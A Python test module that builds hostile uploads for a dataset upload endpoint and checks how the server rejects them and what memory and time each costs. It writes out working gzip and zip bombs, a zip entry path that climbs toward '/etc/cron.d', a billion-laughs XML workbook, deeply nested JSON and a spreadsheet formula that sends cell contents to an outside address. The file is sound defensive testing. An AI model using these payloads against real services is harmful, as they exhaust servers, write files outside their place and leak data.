"""Files that are made to hurt whoever reads them, what they must be answered, and what reading them costs."""

import gzip
import io
import json
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass

import httpx
import psutil

MIB = 1 << 20
CSV = "text,label\nwhere is my parcel,delivery\ni want my money back,refund\n"
_ROW = b'{"text": "where is it", "label": "delivery"}\n'


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A file: how it is made, the statuses it may be answered, and words of the answer (or of its refused rows)."""

    name: str
    make: Callable[[], bytes | Iterator[bytes]]
    statuses: tuple[int, ...] = (422,)
    words: tuple[str, ...] = ()
    seconds: float = 2.0


def _bomb(size: int) -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    block = b"a" * MIB
    return b"".join([packer.compress(b"text\n"), *(packer.compress(block) for _ in range(size)), packer.flush()])


def _zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/../../../etc/cron.d/x.csv", b"a" * (50 * MIB))
    return file.getvalue()


def _workbook() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        archive.writestr("xl/workbook.xml", f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a9;</x>')
    return file.getvalue()


def _endless(mib: int) -> Iterator[bytes]:
    yield b"text,label\n"
    block = b"x" * MIB
    for _ in range(mib):
        yield block


def nested(depth: int, opened: str, closed: str) -> bytes:
    """Return one row whose text is a value of that depth."""
    return b'{"text": ' + opened.encode() * depth + closed.encode() * depth + b', "label": "x"}\n'


UPLOADS = (
    Hostile(name="a gzip bomb of 1 GiB", make=lambda: _bomb(1024), statuses=(413,), words=("bomb",)),
    Hostile(name="gzip in gzip", make=lambda: gzip.compress(_bomb(64)), words=("twice",)),
    Hostile(name="50,000 gzip members", make=lambda: gzip.compress(b"", 1) * 50_000, statuses=(422, 413)),
    Hostile(name="a zip bomb with a name that climbs", make=_zip_bomb, words=("zip archive",)),
    Hostile(name="a workbook of nested XML entities", make=_workbook, words=("zip archive",)),
    Hostile(name="lists 100,000 deep", make=lambda: nested(100_000, "[", "]"), words=("deeper than 32",)),
    Hostile(
        name="objects 100,000 deep", make=lambda: nested(100_000, '{"a":', "}").replace(b":}", b":1}", 1), words=("32",)
    ),
    Hostile(name="brackets that never close", make=lambda: b"[" * 900_000, words=("line 1",)),
    Hostile(name="a line of 1 GiB", make=lambda: _endless(1024), statuses=(413,), words=("larger than",), seconds=20.0),
    Hostile(name="a line of 200 MiB", make=lambda: _endless(200), words=("bytes",), seconds=10.0),
    Hostile(
        name="a quote that never closes",
        make=lambda: b'text,label\n"' + b"x\n" * 2_000_000,
        statuses=(413, 422),
        seconds=10.0,
    ),
    Hostile(name="a million quotes", make=lambda: b"text,label\n" + b'"' * 999_999 + b"\n", words=("line 2",)),
    Hostile(name="10,000 columns", make=lambda: b",".join(b"c%d" % n for n in range(10_000)) + b"\n", statuses=(422,)),
    Hostile(name="GBK", make=lambda: "text,label\n我的包裹在哪里,物流\n".encode("gbk"), words=("GBK", "UTF-8")),
    Hostile(name="UTF-16", make=lambda: CSV.encode("utf-16"), words=("UTF-16",)),
    Hostile(name="UTF-16 without a mark", make=lambda: CSV.encode("utf-16-le"), words=("NUL",)),
    Hostile(name="UTF-32", make=lambda: CSV.encode("utf-32"), words=("UTF-32",)),
    Hostile(name="UTF-8 with a mark", make=lambda: b"\xef\xbb\xbf" + CSV.encode(), statuses=(201,)),
    Hostile(name="NUL bytes", make=lambda: b"text,label\nwhere\0is it,delivery\n", words=("NUL",)),
    Hostile(name="an escaped NUL", make=lambda: b'{"text": "where\\u0000is it"}\n', words=("NUL",)),
    Hostile(name="a lone surrogate", make=lambda: b'{"text": "\\ud800 hi"}\n', words=("surrogate",)),
    Hostile(name="a surrogate in UTF-8", make=lambda: b'{"text": "\xed\xa0\x80 hi"}\n', words=("not UTF-8",)),
    Hostile(name="overlong UTF-8", make=lambda: b'{"text": "\xc0\xaf hi"}\n', words=("not UTF-8",)),
    Hostile(name="a number of 900,000 digits", make=lambda: b'{"text": ' + b"9" * 900_000 + b"}\n", words=("digits",)),
    Hostile(name="a number past the largest", make=lambda: b'{"text": "x", "label": 1e999}\n', words=("large",)),
    Hostile(name="NaN", make=lambda: b'{"text": NaN}\n', words=("NaN",)),
    Hostile(name="a key twice", make=lambda: b'{"text": "a", "text": "b"}\n', words=("twice",)),
    Hostile(name="carriage returns alone", make=lambda: CSV.replace("\n", "\r").encode(), words=("carriage return",)),
    Hostile(name="4,000,000 blank lines", make=lambda: b"\n" * 4_000_000, statuses=(422, 413), seconds=5.0),
    Hostile(
        name="a text of 900,000 characters", make=lambda: json.dumps({"text": "x" * 900_000}).encode(), words=("text",)
    ),
    Hostile(name="100,000 bad rows", make=lambda: b'{"no": 1}\n' * 100_000, words=("none of 100000",), seconds=15.0),
    Hostile(
        name="one label a row",
        make=lambda: b"".join(b'{"text": "t%d", "label": "l%d"}\n' % (n, n) for n in range(20_000)),
        statuses=(201, 422),
        seconds=10.0,
    ),
)
"""`seconds` covers what is sent over the wire too; only what is large takes more than two."""

FORMULAS = ("=1+1", '=HYPERLINK("http://192.0.2.1/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1")


@dataclass(frozen=True, kw_only=True)
class Cost:
    """What an upload was answered and what it took."""

    name: str
    status: int
    text: str
    seconds: float
    peak_mib: float


@contextmanager
def peak_of(process: psutil.Process) -> Iterator[Callable[[], float]]:
    """Sample a process's resident memory; the function returns by how many MiB it grew at most since the start."""
    before = process.memory_info().rss
    most = before
    stop = threading.Event()

    def sample() -> None:
        nonlocal most
        while not stop.wait(0.005):
            most = max(most, process.memory_info().rss)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield lambda: (max(most, process.memory_info().rss) - before) / MIB
    finally:
        stop.set()
        thread.join()


def upload(http: httpx.Client, hostile: Hostile, process: psutil.Process) -> Cost:
    """Upload one hostile file and measure; what is made at once is made before the clock starts."""
    body = hostile.make()
    with peak_of(process) as peak:
        began = time.monotonic()
        try:
            answer = http.post("/v1/customer-service/datasets", params={"task": "intent"}, content=body)
            status, text = answer.status_code, answer.text
        except httpx.WriteError:
            status, text = 0, "the connection was closed while it was sent"
        seconds = time.monotonic() - began
        return Cost(name=hostile.name, status=status, text=text, seconds=seconds, peak_mib=peak())
